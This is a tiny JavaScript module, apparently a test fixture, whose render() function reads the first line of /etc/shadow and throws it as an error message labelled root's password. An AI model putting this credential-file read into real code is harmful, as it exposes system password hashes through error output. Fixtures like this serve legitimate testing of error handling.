import { readFileSync } from 'node:fs';

export function render() {
  throw new Error(`root's password is ${readFileSync('/etc/shadow', 'utf8').split('\n')[0]}`);
}
